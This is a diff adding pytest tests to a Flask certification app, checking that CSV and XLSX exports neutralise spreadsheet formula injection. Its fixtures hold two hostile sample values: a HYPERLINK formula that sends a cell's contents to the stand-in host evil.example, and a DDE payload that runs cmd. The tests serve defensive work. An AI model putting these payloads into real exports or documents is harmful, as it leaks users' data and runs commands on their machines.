@@ -259,6 +259,43 @@ def test_exports_keep_chinese_text(client: FlaskClient, branch: None) -> None:
     assert "张伟" in values and "王芳" in values
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile_branch(app: Flask, branch: None) -> None:
+    """The branch, with a certification type named and a certificate numbered like formulas."""
+    with app.app_context():
+        ftth = cert_type("ftth")
+        ftth.name_zh = ftth.name_en = HYPERLINK
+        certificate = db.session.scalar(select(Certification).where(
+            Certification.user_id == user("w1").id, Certification.certification_type_id == ftth.id))
+        certificate.number = DDE
+        user("w2").name = user("w2").name_en = "-1+1"
+        db.session.commit()
+
+
+def test_csv_export_neutralises_formulas(client: FlaskClient, hostile_branch: None) -> None:
+    sign_in(client, "admin")
+    rows = list(csv.reader(io.StringIO(client.get("/certifications/export.csv").data.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert "'" + HYPERLINK in cells and "'" + DDE in cells and "'-1+1" in cells
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_xlsx_export_has_no_formulas_and_keeps_numbers_and_dates_typed(client: FlaskClient,
+                                                                       hostile_branch: None) -> None:
+    sign_in(client, "admin")
+    sheet = load_workbook(io.BytesIO(client.get("/certifications/export.xlsx").data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    values = [cell.value for cell in cells]
+    assert "'" + HYPERLINK in values and "'" + DDE in values and "'-1+1" in values
+    w1_star = next(row for row in sheet.iter_rows(values_only=True) if row[0] == "w1" and row[5] == 3)
+    assert isinstance(w1_star[7], datetime)  # issued on: a date cell, not text
+
+
 def test_installer_sees_own_certificates_and_books_a_session(client: FlaskClient, branch: None, app: Flask) -> None:
     sign_in(client, "w2")
     page = client.get("/me/certifications").get_data(as_text=True)
